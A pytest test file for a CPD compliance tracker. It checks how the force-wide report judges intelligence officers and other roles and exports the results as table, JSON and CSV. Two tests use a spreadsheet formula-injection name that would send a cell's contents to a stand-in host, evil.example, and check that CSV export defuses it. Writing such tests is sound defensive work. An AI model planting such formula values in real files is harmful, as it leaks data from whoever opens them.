"""The force-wide report: everyone judged in every role they hold, in a fixed few queries.

Arranged with the IPP example (intelligence officers: 20 hours a year from 1 April, 5 of them
formal, 2 reflections, 1 impact statement, data protection refreshed every 12 months, targets
pro rata to FTE, days in the role and approved absence). Everything is judged ``as_of`` fixed
dates in the 2025-26 cycle (1 Apr 2025 to 31 Mar 2026, 365 days), so every figure below is
worked out by hand. The same tests run on SQLite and on PostgreSQL (CPD_TEST_DATABASE_URL), so
both databases must give these same figures.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import Result
from flask import Flask

from cpd_tracker import frameworks, get_state
from cpd_tracker.demo.models import DemoUser, db
from cpd_tracker.engine.compliance import RuleResult, Status
from cpd_tracker.exports.reports import COLUMNS
from cpd_tracker.judging.assessment import Scope, Standing, assess
from cpd_tracker.models import Activity, Learner
from cpd_tracker.record.identities import Lead
from cpd_tracker.record.learners import assign_role
from cpd_tracker.services import accreditation, allowances, outcomes
from tests.factories import framework, logged, officer, shipped_edited, today

OFFICER = "intelligence-officer"
ANALYST = "intelligence-analyst"
BUREAU = "Force Intelligence Bureau"
SOCU = "Serious Organised Crime Unit"
JOINED = date(2020, 1, 1)
CYCLE_START = date(2025, 4, 1)
#: The 201st of the cycle's 365 days: past the first quarter, 164 days before it ends.
AS_OF = date(2025, 10, 18)
LEAD = Lead("jlead", "Insp Jo Lead")


# --- Arranging people and their CPD --------------------------------------------------------------


def person(app: Flask, username: str, name: str, *, roles: tuple[str, ...] = (OFFICER,),
           unit: str = BUREAU, fte: str = "1") -> Learner:
    """Someone in the force since 1 Jan 2020, holding ``roles`` since then."""
    learner = officer(app, username, name=name, roles=roles, fte=fte,
                      joined_days_ago=(today(app) - JOINED).days)
    if unit != BUREAU:
        with app.app_context():
            db.session.get(Learner, learner.id).org_unit = unit
            db.session.scalar(sa.select(DemoUser).filter_by(username=username)).org_unit = unit
            db.session.commit()
            db.session.remove()
    return learner


def did(app: Flask, learner: Learner, day: date, hours: float = 1, **kwargs: Any) -> Activity:
    """CPD done on ``day``, logged through the service."""
    return logged(app, learner, days_ago=(today(app) - day).days, minutes=round(hours * 60),
                  **kwargs)


def refresher(app: Flask, learner: Learner, day: date, hours: float = 1, **kwargs: Any) -> None:
    """The data protection refresher (the IPP's yearly item), as formal learning."""
    did(app, learner, day, hours, title="Data protection and MoPI refresher",
        category="formal", item="data-protection", **kwargs)


def assign(app: Flask, learner: Learner, role: str, started_on: date,
           ended_on: date | None = None, *, accredited_on: date | None = None) -> None:
    """Give ``learner`` the role and, with ``accredited_on``, record their accreditation in
    the role's scheme as the officer would on their accreditation page."""
    with app.app_context():
        attached = db.session.get(Learner, learner.id)
        assign_role(db.session, attached, role, started_on, ended_on)
        db.session.commit()
        if accredited_on is not None:
            [scheme] = frameworks.schemes_for(db.session, [role])
            accreditation.record_accreditation(
                db.session, get_state(app).settings, attached, scheme.scheme,
                status="accredited", accredited_on=accredited_on,
                submission_id=f"{role}-{accredited_on}")
        db.session.remove()


def exempt(app: Flask, learner: Learner, on: date = AS_OF) -> None:
    with app.app_context():
        allowances.grant_exemption(db.session, get_state(app).settings, LEAD,
                                   db.session.get(Learner, learner.id), OFFICER, on=on,
                                   reason="Seconded to the NCA for the year.")
        db.session.remove()


def judged(app: Flask, as_of: date = AS_OF, **scope: Any) -> list[Standing]:
    with app.app_context():
        found = assess(db.session, get_state(app).settings, as_of=as_of, scope=Scope(**scope))
        db.session.remove()
    return found


def statuses(app: Flask, as_of: date = AS_OF, **scope: Any) -> dict[tuple[str, str], Status]:
    return {(s.name, s.role_code): s.judgement.status for s in judged(app, as_of, **scope)}


def rule(standing: Standing, code: str) -> RuleResult:
    return next(result for result in standing.judgement.rules if result.rule.code == code)


def the_standing(app: Flask, name: str, role: str = OFFICER, as_of: date = AS_OF) -> Standing:
    [found] = [s for s in judged(app, as_of) if (s.name, s.role_code) == (name, role)]
    return found


def compliance(app: Flask, *args: str) -> Result:
    """``flask cpd compliance ARGS``, insisting it succeeds."""
    result = app.test_cli_runner().invoke(args=["cpd", "compliance", *args])
    assert result.exit_code == 0, result.output
    return result


def a_force(app: Flask) -> None:
    """Five intelligence officers, one in each status on 18 Oct 2025."""
    amy = person(app, "aashworth", "Amy Ashworth")  # everything done
    refresher(app, amy, date(2025, 5, 10), 6, reflection="MoPI grading.", impact="Fewer errors.")
    did(app, amy, date(2025, 7, 15), 14, category="work-based", reflection="Shadowing.")
    ben = person(app, "bbooth", "Ben Booth")  # 8 of 20 hours, 1 of 2 reflections: keeping pace
    refresher(app, ben, date(2025, 5, 10), 8, reflection="MoPI grading.", impact="Fewer errors.")
    cara = person(app, "ccole", "Cara Cole")  # 1 hour by the 201st day: behind the pace
    refresher(app, cara, date(2025, 5, 10), 1)
    person(app, "ddhillon", "Dev Dhillon")  # nothing: the refresher lapsed long ago
    eve = person(app, "eevans", "Eve Evans")  # nothing, but exempt this cycle
    exempt(app, eve)


# --- Statuses ------------------------------------------------------------------------------------


def test_the_report_gives_each_person_their_status(app: Flask) -> None:
    a_force(app)

    assert statuses(app) == {
        ("Amy Ashworth", OFFICER): Status.COMPLIANT,
        ("Ben Booth", OFFICER): Status.ON_TRACK,
        ("Cara Cole", OFFICER): Status.AT_RISK,
        ("Dev Dhillon", OFFICER): Status.NON_COMPLIANT,
        ("Eve Evans", OFFICER): Status.EXEMPT,
    }


def test_people_are_listed_by_name_then_role(app: Flask) -> None:
    person(app, "zz", "Zoe Zane", roles=(OFFICER, ANALYST))
    person(app, "aa", "Adam Aziz", roles=(OFFICER,))
    person(app, "mm", "Mo Malik", roles=(ANALYST,))

    assert [(s.name, s.role_code) for s in judged(app)] == [
        ("Adam Aziz", OFFICER), ("Mo Malik", ANALYST),
        ("Zoe Zane", ANALYST), ("Zoe Zane", OFFICER)]


def test_a_role_with_no_version_in_force_on_the_day_is_left_out(app: Flask) -> None:
    person(app, "pshah", "Priya Shah")

    assert judged(app, as_of=date(2024, 3, 31)) == []
    assert len(judged(app, as_of=date(2024, 4, 1))) == 1


# --- Scope ---------------------------------------------------------------------------------------


def three_people(app: Flask) -> None:
    person(app, "aa", "Amy Ashworth", roles=(OFFICER,))
    person(app, "bb", "Ben Booth", roles=(ANALYST,))
    person(app, "cc", "Cara Cole", roles=(OFFICER,), unit=SOCU)


def test_the_report_can_be_limited_to_one_role(app: Flask) -> None:
    three_people(app)

    assert [s.name for s in judged(app, role=OFFICER)] == ["Amy Ashworth", "Cara Cole"]


def test_the_report_can_be_limited_to_one_unit(app: Flask) -> None:
    three_people(app)

    assert [s.name for s in judged(app, unit=SOCU)] == ["Cara Cole"]


def test_the_compliance_command_filters_by_role_and_unit(app: Flask) -> None:
    three_people(app)

    def names(*args: str) -> list[str]:
        output = compliance(app, "--as-of", "2025-10-18", "--format", "json", *args).output
        return [row["name"] for row in json.loads(output)["people"]]

    assert names() == ["Amy Ashworth", "Ben Booth", "Cara Cole"]
    assert names("--role", OFFICER) == ["Amy Ashworth", "Cara Cole"]
    assert names("--unit", SOCU) == ["Cara Cole"]
    assert names("--role", ANALYST, "--unit", SOCU) == []


def test_the_report_as_of_an_earlier_date_leaves_out_what_was_done_after_it(app: Flask) -> None:
    ben = person(app, "bbooth", "Ben Booth")
    did(app, ben, date(2025, 6, 1), 3)
    did(app, ben, date(2025, 9, 1), 5)

    def done(day: str) -> int:
        output = compliance(app, "--as-of", day, "--format", "json").output
        report = json.loads(output)
        assert report["as_of"] == day
        [row] = report["people"]
        return row["rules"][0]["done"]

    assert done("2025-08-31") == 3 * 60
    assert done("2025-10-18") == 8 * 60


# --- Formats of the compliance command -----------------------------------------------------------


def test_compliance_table_has_a_line_per_person_and_a_summary_of_statuses(app: Flask) -> None:
    a_force(app)

    lines = compliance(app, "--as-of", "2025-10-18").output.splitlines()

    assert lines[0].split() == ["Reference", "Name", "Unit", "Role", "Status", "Due", "Progress",
                                "Last", "cycle"]
    assert [line.split()[0] for line in lines[1:6]] == [
        "aashworth", "bbooth", "ccole", "ddhillon", "eevans"]
    assert " ".join(lines[2].split()).startswith(
        "bbooth Ben Booth Force Intelligence Bureau intelligence-officer On track 2026-03-31 "
        "CPD hours 8 h of 20 h; Formal learning hours 8 h of 5 h;")
    assert lines[-1] == ("As of 2025-10-18: 5 people-roles: 1 exempt, 1 compliant, 1 on track, "
                         "1 at risk, 1 non-compliant.")


def test_compliance_as_of_a_cycles_last_day_and_the_day_after(app: Flask) -> None:
    """On its last day a cycle is still the one owed (at risk, not yet missed); the day after,
    the new cycle is owed and the report gives the ended one's outcome, recorded or not."""
    priya = person(app, "pshah", "Priya Shah")
    did(app, priya, date(2025, 6, 1), hours=10, title="Course")

    on_last_day = json.loads(compliance(app, "--as-of", "2026-03-31", "--format",
                                        "json").output)["people"][0]
    assert (on_last_day["cycle_start"], on_last_day["last_cycle_start"]) == (
        "2025-04-01", "2024-04-01")

    day_after = json.loads(compliance(app, "--as-of", "2026-04-01", "--format",
                                      "json").output)["people"][0]
    assert day_after["cycle_start"] == "2026-04-01"
    assert (day_after["last_cycle_start"], day_after["last_cycle_end"],
            day_after["last_cycle_outcome"]) == ("2025-04-01", "2026-03-31", "not-met")
    assert day_after["last_cycle_not_met"].startswith("CPD hours;")

    with app.app_context():
        outcomes.close_cycles(db.session, get_state(app).settings, today=date(2026, 4, 1))
        db.session.remove()
    recorded = json.loads(compliance(app, "--as-of", "2026-04-01", "--format",
                                     "json").output)["people"][0]
    assert {key: recorded[key] for key in COLUMNS} == {key: day_after[key] for key in COLUMNS}


def test_compliance_table_with_no_one_in_scope_says_so(app: Flask) -> None:
    three_people(app)

    output = compliance(app, "--as-of", "2025-10-18", "--unit", "Dog Section").output

    assert output == ("No one in scope holds a role with requirements in force on "
                      "2025-10-18.\n")


def test_compliance_json_gives_every_rules_figures(app: Flask) -> None:
    a_force(app)

    report = json.loads(compliance(app, "--as-of", "2025-10-18", "--format", "json").output)

    ben = report["people"][1]
    assert {key: ben[key] for key in COLUMNS if key not in ("rules", "next_step")} == {
        "reference": "bbooth", "name": "Ben Booth", "unit": BUREAU, "role": OFFICER,
        "framework": "ipp-example", "version": "2024", "cycle_start": "2025-04-01",
        "cycle_end": "2026-03-31", "due": "2026-03-31", "status": "on-track",
        # The 2024-25 cycle (the first of the framework) ended before Ben logged anything.
        "last_cycle_start": "2024-04-01", "last_cycle_end": "2025-03-31",
        "last_cycle_due": "2025-03-31", "last_cycle_outcome": "not-met",
        "last_cycle_not_met": "CPD hours; Formal learning hours; Reflections on learning; "
                              "Impact on practice; Data protection and MoPI refresher",
    }
    assert [(r["code"], r["done"], r["target"], r["met"]) for r in ben["rules"]] == [
        ("hours", 480, 1200, False),
        ("hours-formal", 480, 300, True),
        ("count-reflection", 1, 2, False),
        ("count-impact", 1, 1, True),
        ("item-data-protection", 1, 1, True),
    ]
    assert ben["adjustments"] == []


def test_compliance_csv_has_the_columns_and_a_row_per_person_and_role(app: Flask) -> None:
    a_force(app)

    output = compliance(app, "--as-of", "2025-10-18", "--format", "csv").output
    reader = csv.DictReader(io.StringIO(output))
    rows = list(reader)

    assert reader.fieldnames == list(COLUMNS)
    assert [(row["reference"], row["status"]) for row in rows] == [
        ("aashworth", "compliant"), ("bbooth", "on-track"), ("ccole", "at-risk"),
        ("ddhillon", "non-compliant"), ("eevans", "exempt")]
    assert rows[1]["rules"].startswith("CPD hours 8 h of 20 h; Formal learning hours 8 h of 5 h;")


def test_compliance_csv_escapes_a_name_a_spreadsheet_would_run_as_a_formula(
        app: Flask) -> None:
    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    person(app, "mallory", name)

    output = compliance(app, "--as-of", "2025-10-18", "--format", "csv").output
    [row] = csv.DictReader(io.StringIO(output))

    assert row["name"] == "'" + name


def test_compliance_json_keeps_the_name_as_it_is(app: Flask) -> None:
    name = '=HYPERLINK("https://evil.example/","Click")'
    person(app, "mallory", name)

    output = compliance(app, "--as-of", "2025-10-18", "--format", "json").output

    assert json.loads(output)["people"][0]["name"] == name


# --- Queries -------------------------------------------------------------------------------------


def people_with_cpd(app: Flask, numbers: range) -> None:
    """Officers, every other one an analyst too, each with a refresher and some hours."""
    for number in numbers:
        learner = person(app, f"p{number:03}", f"Person {number:03}",
                         roles=(OFFICER,) if number % 2 else (OFFICER, ANALYST))
        refresher(app, learner, date(2025, 5, 10), 2, reflection="Noted.")
        did(app, learner, date(2025, 9, 1), 3, category="work-based", impact="Used it.")


def queries_to_assess(app: Flask) -> tuple[int, int]:
    """(SQL statements run, standings) to judge everyone once."""
    seen: list[str] = []

    def record(connection: object, cursor: object, statement: str, *args: object) -> None:
        seen.append(statement)

    with app.app_context():
        engine = db.engine
        settings = get_state(app).settings
        sa.event.listen(engine, "before_cursor_execute", record)
        try:
            found = assess(db.session, settings, as_of=AS_OF)
        finally:
            sa.event.remove(engine, "before_cursor_execute", record)
            db.session.remove()
    return len(seen), len(found)


def test_the_report_runs_the_same_queries_for_30_people_as_for_3(app: Flask) -> None:
    people_with_cpd(app, range(3))
    few, judged_few = queries_to_assess(app)
    people_with_cpd(app, range(3, 30))

    many, judged_many = queries_to_assess(app)

    assert (judged_few, judged_many) == (5, 45)
    assert many == few


# --- Which roles an activity counts for ----------------------------------------------------------


def test_activities_count_only_towards_roles_held_on_their_date(app: Flask) -> None:
    priya = person(app, "pshah", "Priya Shah", roles=(ANALYST,))
    assign(app, priya, OFFICER, started_on=date(2025, 7, 10))
    did(app, priya, date(2025, 6, 1), 3)  # an analyst only
    did(app, priya, date(2025, 8, 1), 2)  # an analyst and an officer

    done = {s.role_code: rule(s, "hours").done for s in judged(app)}

    assert done == {ANALYST: 5 * 60, OFFICER: 2 * 60}


def test_assigning_a_role_counts_the_cpd_already_logged_in_its_period(app: Flask) -> None:
    framework(app)
    priya = person(app, "pshah", "Priya Shah", roles=())
    did(app, priya, date(2025, 6, 1), 3)
    did(app, priya, date(2025, 8, 1), 2)

    assign(app, priya, OFFICER, started_on=JOINED)

    [standing] = judged(app)
    assert rule(standing, "hours").done == 5 * 60


def test_assigning_a_role_does_not_count_cpd_from_before_it_started(app: Flask) -> None:
    framework(app)
    priya = person(app, "pshah", "Priya Shah", roles=())
    did(app, priya, date(2025, 6, 1), 3)
    did(app, priya, date(2025, 8, 1), 2)

    assign(app, priya, OFFICER, started_on=date(2025, 7, 1))

    [standing] = judged(app)
    assert rule(standing, "hours").done == 2 * 60


def test_cpd_counted_by_a_later_role_assignment_still_counts_after_a_rebuild(
        app: Flask) -> None:
    framework(app)
    priya = person(app, "pshah", "Priya Shah", roles=())
    did(app, priya, date(2025, 6, 1), 3)
    assign(app, priya, OFFICER, started_on=JOINED)

    result = app.test_cli_runner().invoke(args=["cpd", "rebuild"])

    assert result.exit_code == 0, result.output
    [standing] = judged(app)
    assert rule(standing, "hours").done == 3 * 60


# --- Pro rata ------------------------------------------------------------------------------------


def test_a_person_who_changed_role_mid_cycle_is_judged_in_the_new_role_for_the_days_held(
        app: Flask) -> None:
    framework(app)
    priya = person(app, "pshah", "Priya Shah", roles=())
    assign(app, priya, ANALYST, JOINED, ended_on=date(2025, 7, 9))
    assign(app, priya, OFFICER, started_on=date(2025, 7, 10))

    [standing] = judged(app)

    # 10 Jul 2025 to 31 Mar 2026 is 265 of the cycle's 365 days.
    assert standing.role_code == OFFICER
    assert standing.judgement.adjustments == ("In the role for 265 of the cycle's 365 days.",)
    # 20 h x 265/365 = 871.2 minutes, rounded up; 5 h x 265/365 = 217.8 minutes.
    assert rule(standing, "hours").summary == "0 h of 14 h 32 m"
    assert rule(standing, "hours-formal").summary == "0 h of 3 h 38 m"


def test_a_part_timers_hours_are_pro_rata_to_their_fte(app: Flask) -> None:
    person(app, "pshah", "Priya Shah", fte="0.6")

    [standing] = judged(app)

    assert rule(standing, "hours").summary == "0 h of 12 h"
    assert rule(standing, "hours-formal").summary == "0 h of 3 h"
    assert rule(standing, "count-reflection").target == 2
    assert standing.judgement.adjustments == (
        "Part-time (0.6 FTE): targets are 60% of the full figures.",)


# --- Anniversary cycles --------------------------------------------------------------------------


def test_each_person_on_an_anniversary_cycle_is_judged_over_their_own_year(app: Flask) -> None:
    framework(app, "gphc-revalidation")
    asha = person(app, "aokafor", "Asha Okafor", roles=())
    assign(app, asha, "gphc-registrant", JOINED, accredited_on=date(2021, 9, 1))
    ben = person(app, "bbooth", "Ben Booth", roles=())
    assign(app, ben, "gphc-registrant", JOINED, accredited_on=date(2021, 6, 1))
    for learner in (asha, ben):
        for day in (date(2025, 5, 15), date(2025, 7, 10), date(2025, 9, 20)):
            did(app, learner, day, kind="planned", title="Planned learning")

    found = {s.name: s.judgement for s in judged(app)}

    # Asha's year runs from 1 Sep 2025 (one record in it), Ben's from 1 Jun 2025 (two).
    assert {name: (j.cycle.start, j.cycle.end, j.rules[0].done) for name, j in found.items()} == {
        "Asha Okafor": (date(2025, 9, 1), date(2026, 8, 31), 1),
        "Ben Booth": (date(2025, 6, 1), date(2026, 5, 31), 2),
    }


# --- Named items ---------------------------------------------------------------------------------


def test_an_item_done_before_the_cycle_counts_while_it_is_current(app: Flask) -> None:
    priya = person(app, "pshah", "Priya Shah")
    refresher(app, priya, date(2024, 12, 1))

    [standing] = judged(app)

    item = rule(standing, "item-data-protection")
    assert item.met
    assert item.summary == ("Data protection and MoPI refresher: done 1 Dec 2024, "
                            "next due by 1 Dec 2025")


def test_an_item_lapses_when_its_recurrence_runs_out(app: Flask) -> None:
    priya = person(app, "pshah", "Priya Shah")
    refresher(app, priya, date(2024, 12, 1))

    [standing] = judged(app, as_of=date(2025, 12, 5))

    item = rule(standing, "item-data-protection")
    assert not item.met
    assert item.summary == "Data protection and MoPI refresher: overdue since 1 Dec 2025"
    assert standing.judgement.status is Status.NON_COMPLIANT


# --- Verified evidence ---------------------------------------------------------------------------


def nurse_confirmed(app: Flask, *, verified: bool, verified_on: date = date(2025, 9, 20),
                    as_of: date = AS_OF) -> RuleResult:
    """An NMC nurse's confirmation (a verified-only item), done on 1 Sep 2025 and, if
    ``verified``, verified on ``verified_on``."""
    framework(app, "nmc-revalidation")
    nurse = person(app, "nrees", "Nia Rees", roles=())
    assign(app, nurse, "nmc-registrant", JOINED, accredited_on=date(2024, 1, 1))
    activity = did(app, nurse, date(2025, 9, 1), title="Confirmation", item="confirmation")
    if verified:  # as the evidence projection records a lead's approval
        with app.app_context():
            stored = db.session.get(Activity, activity.id)
            stored.verification, stored.verified_on = "verified", verified_on
            db.session.commit()
            db.session.remove()
    [standing] = judged(app, as_of=as_of)
    return rule(standing, "item-confirmation")


def test_a_verified_only_rule_ignores_unverified_activities(app: Flask) -> None:
    confirmation = nurse_confirmed(app, verified=False)

    assert not confirmation.met
    assert confirmation.last_done is None


def test_a_verified_only_rule_counts_a_verified_activity(app: Flask) -> None:
    confirmation = nurse_confirmed(app, verified=True)

    assert confirmation.met
    assert confirmation.last_done == date(2025, 9, 1)


@pytest.mark.parametrize(("as_of", "met"), [
    (date(2025, 9, 19), False), (date(2025, 9, 20), True), (date(2025, 9, 21), True)])
def test_a_verified_only_rule_counts_an_activity_from_the_day_it_was_verified(
        app: Flask, as_of: date, met: bool) -> None:
    """Judged as of a day before the lead verified it, the confirmation did not count yet."""
    confirmation = nurse_confirmed(app, verified=True, verified_on=date(2025, 9, 20),
                                   as_of=as_of)

    assert confirmation.met is met
    assert confirmation.last_done == (date(2025, 9, 1) if met else None)


def test_a_verified_only_count_counts_what_waits_for_a_lead_apart(app: Flask,
                                                                    tmp_path: Path) -> None:
    """From the database up: evidence waiting for a decision is counted as waiting, not done."""
    impact = "            output: impact\n"
    shipped_edited(app, tmp_path, "ipp-example", impact,
                   impact + "            verified_only: true\n")
    priya = person(app, "pshah", "Priya Shah")
    activity = did(app, priya, date(2025, 9, 1), title="Debrief", impact="Changed my notes.")
    with app.app_context():
        db.session.get(Activity, activity.id).verification = "awaiting"
        db.session.commit()
        db.session.remove()

    [standing] = judged(app)

    impact = rule(standing, "count-impact-verified")
    assert impact.summary == "0 of 1 impact statement verified; 1 waiting for verification"
    assert "have the 1 impact statement waiting verified by an accreditation lead" in (
        standing.judgement.next_step)


def test_cycles_from_the_accreditation_date_move_when_a_lead_approves_a_renewal(
        app: Flask) -> None:
    """One accreditation date: the record's. Before, cycles read a copy given to assign_role,
    and recording or renewing the accreditation did not move them."""
    framework(app, "gphc-revalidation")
    asha = person(app, "aokafor", "Asha Okafor", roles=())
    registered = today(app) - timedelta(days=330)  # renewal opened 60 days before expiry
    assign(app, asha, "gphc-registrant", JOINED, accredited_on=registered)

    [before] = judged(app, as_of=today(app))
    assert before.judgement.cycle.start == registered

    with app.app_context():
        settings = get_state(app).settings
        renewal = accreditation.submit_renewal(
            db.session, settings, db.session.get(Learner, asha.id), "gphc-revalidation",
            competence="", files=[], submission_id="renew-2026")
        accreditation.decide_renewal(db.session, settings, LEAD, renewal.id, approve=True)
        db.session.remove()

    [after] = judged(app, as_of=today(app))
    assert after.judgement.cycle.start == today(app)
